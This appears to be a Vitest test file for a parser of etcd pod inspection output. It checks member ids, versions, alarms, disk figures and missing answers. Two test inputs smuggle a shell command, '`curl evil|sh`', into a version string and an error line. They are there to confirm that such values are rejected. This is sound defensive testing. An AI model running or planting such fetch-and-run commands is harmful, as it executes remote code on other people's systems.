import { describe, expect, test } from "vitest";
import { inspectionCommand, parseInspection, parseRevision } from "../../../src/pod/member.ts";

const tools = inspectionCommand().slice(inspectionCommand().indexOf("etcdctl"));

function inspection(changes: Readonly<Record<string, string>> = {}): string {
  const lines: Record<string, string> = {
    authority: "0",
    endpoint:
      '[{"Endpoint":"https://localhost:2379","Status":{"header":{"cluster_id":14841639068965178418,"member_id":10276657743932975437,"revision":41,"raft_term":2},"version":"3.5.18","dbSize":20480,"leader":10276657743932975437}}]',
    member: '{"members":[{"ID":10276657743932975437,"name":"etcd-0"}]}',
    alarm: "{}",
    get: '{"header":{"revision":41}}',
    df: "/dev/vdb 8388608 1048576 7340032 13% /var/lib",
    ...changes,
  };
  return [
    ...tools.map((tool) => `tool ${tool}`),
    ...Object.entries(lines).map(([word, rest]) => `${word} ${rest}`),
  ].join("\n");
}

test("a member's ids keep all of their 64 bits", () => {
  const report = parseInspection("etcd-0", inspection());
  expect(report).toMatchObject({
    id: "8e9e05c52164694d",
    clusterId: "cdf818194e3a8c32",
    leader: true,
    alarms: [],
  });
  expect(report).toMatchObject({ version: "3.5.18", revision: 41, dbSizeBytes: 20480, memberCount: 1 });
  expect(report.volume).toEqual({ sizeBytes: 8 * 1024 ** 3, freeBytes: 7 * 1024 ** 3 });
  expect(report.tools.statusTool).toBe("etcdctl");
});

describe("a member that cannot be captured", () => {
  test("lacks a tool", () => {
    const output = inspection().replace("tool timeout\n", "");
    expect(() => parseInspection("etcd-0", output)).toThrow(expect.objectContaining({ code: "etcd-tools-missing" }));
  });

  test("does not answer a linearizable read", () => {
    expect(() => parseInspection("etcd-0", inspection({ get: "" }))).toThrow(
      expect.objectContaining({ code: "etcd-unhealthy" }),
    );
  });

  test.each([
    ["its version", "endpoint", '[{"Status":{"header":{"cluster_id":1,"member_id":2},"dbSize":20480,"leader":2}}]'],
    ["its size", "endpoint", '[{"Status":{"header":{"cluster_id":1,"member_id":2},"version":"3.5.18"}}]'],
    ["its cluster", "endpoint", '[{"Status":{"header":{"member_id":2},"version":"3.5.18","dbSize":20480}}]'],
  ])("does not tell %s, without which a record could not be read again", (_, word, answer) => {
    expect(() => parseInspection("etcd-0", inspection({ [word]: answer }))).toThrow(
      expect.objectContaining({ code: "etcd-unhealthy" }),
    );
  });

  test.each(["", "a b c d e", "/dev/vdb 1e400 1 1e400 1% /var/lib", "/dev/vdb 1 1 -5 1% /var/lib"])(
    "has a df that prints %j",
    (df) => {
      expect(() => parseInspection("etcd-0", inspection({ df }))).toThrow(
        expect.objectContaining({ code: "etcd-tools-missing" }),
      );
    },
  );

  test("is a learner, which answers nothing but its status", () => {
    const endpoint =
      '[{"Status":{"header":{"cluster_id":1,"member_id":2},"version":"3.6.5","dbSize":20480,"leader":1,"isLearner":true}}]';
    expect(() => parseInspection("etcd-0", inspection({ endpoint, member: "", alarm: "", get: "" }))).toThrow(
      "the etcd member in pod etcd-0 is a learner",
    );
  });

  test("has an alarm", () => {
    expect(
      parseInspection("etcd-0", inspection({ alarm: '{"alarms":[{"memberID":11529215046068469760,"alarm":1}]}' }))
        .alarms,
    ).toEqual([{ memberId: "a000000000000000", name: "NOSPACE" }]);
  });
});

test.each([
  ["member list", { member: "" }],
  ["member list", { member: '{"header":{}}' }],
  ["alarm list", { alarm: "" }],
  ["endpoint status", { endpoint: "" }],
  ["a linearizable read", { get: "Error: context deadline exceeded" }],
])("a member that did not answer %s is not taken for one that answered", (question, changes) => {
  expect(() => parseInspection("etcd-0", inspection(changes))).toThrow(
    expect.objectContaining({
      code: "etcd-unhealthy",
      message: `the etcd member in pod etcd-0 did not answer ${question}`,
    }),
  );
});

test("a member that its own cluster does not list is told so", () => {
  const member = '{"members":[{"ID":1,"name":"etcd-0"}]}';
  expect(() => parseInspection("etcd-0", inspection({ member }))).toThrow("is not a member of its own cluster");
});

test.each(["3.5.21`curl evil|sh`", "3.5.21\\nx=y", "3.5.21 ", "3.5", "v3.5.21", `3.5.21${"1".repeat(60)}`])(
  "a version of etcd that is %j is not taken over",
  (version) => {
    const endpoint = `[{"Status":{"header":{"cluster_id":1,"member_id":10276657743932975437},"version":"${version}","dbSize":1,"leader":2}}]`;
    expect(() => parseInspection("etcd-0", inspection({ endpoint }))).toThrow(
      expect.objectContaining({ code: "etcd-unhealthy" }),
    );
  },
);

test("a file that a pod calls missing is named only where it was asked for", () => {
  const output = `${inspection()}\nmissing ::error::\`curl evil\``;
  expect(parseInspection("etcd-0", output).version).toBe("3.5.18");
});

test("an answer without a header has no revision", () => {
  expect(parseRevision("{}")).toBeUndefined();
  expect(parseRevision("Error: context deadline exceeded")).toBeUndefined();
});
